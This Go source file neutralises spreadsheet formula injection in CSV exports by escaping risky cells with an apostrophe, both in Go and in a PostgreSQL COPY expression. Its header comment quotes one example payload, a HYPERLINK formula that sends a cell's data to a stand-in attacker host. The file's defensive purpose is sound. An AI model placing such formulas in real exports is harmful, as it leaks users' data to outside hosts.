package storage

import (
	"encoding/csv"
	"io"
	"regexp"
	"strings"
)

// Spreadsheets run a cell that starts with = + - @ (or a tab or carriage
// return before one) as a formula: a participant id of
// =HYPERLINK("http://evil.example/?"&A2,"Click") in an export would put a
// working link to the researcher's data in their Excel. Every CSV the
// platform writes neutralises such text cells with a leading apostrophe
// (shown as text, not evaluated); numbers, including negative ones, stay
// numbers. This file is the rule's one home: SafeCell and CSVWriter for the
// CSVs written in Go, safeCellSQL for the trial export that PostgreSQL's
// COPY writes.
const (
	formulaStarts = "=+-@\t\r"
	// numberPattern is a plain decimal number, in Go and PostgreSQL regex.
	numberPattern = `^[-+]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][-+]?[0-9]+)?$`
)

var numberRE = regexp.MustCompile(numberPattern)

// SafeCell is s as a CSV cell no spreadsheet evaluates.
func SafeCell(s string) string {
	if s == "" || !strings.ContainsRune(formulaStarts, rune(s[0])) || numberRE.MatchString(s) {
		return s
	}
	return "'" + s
}

// safeCellSQL wraps a text expression of the export query so that COPY
// writes it as SafeCell would. The cheap test of the first character comes
// first: the pattern is matched only for the rare cell that starts so.
func safeCellSQL(expr string) string {
	expr = "(" + expr + ")"
	return "CASE WHEN left(" + expr + ", 1) IN ('=', '+', '-', '@', E'\\t', E'\\r') AND " + expr + " !~ '" + numberPattern +
		"' THEN '''' || " + expr + " ELSE " + expr + " END"
}

// CSVWriter is encoding/csv's writer with every cell made safe.
type CSVWriter struct {
	w   *csv.Writer
	row []string
}

// NewCSVWriter writes RFC 4180 CSV to w.
func NewCSVWriter(w io.Writer) *CSVWriter { return &CSVWriter{w: csv.NewWriter(w)} }

// Write writes one record.
func (c *CSVWriter) Write(record []string) error {
	c.row = c.row[:0]
	for _, s := range record {
		c.row = append(c.row, SafeCell(s))
	}
	return c.w.Write(c.row)
}

// Flush writes any buffered data and reports a write error.
func (c *CSVWriter) Flush() error {
	c.w.Flush()
	return c.w.Error()
}
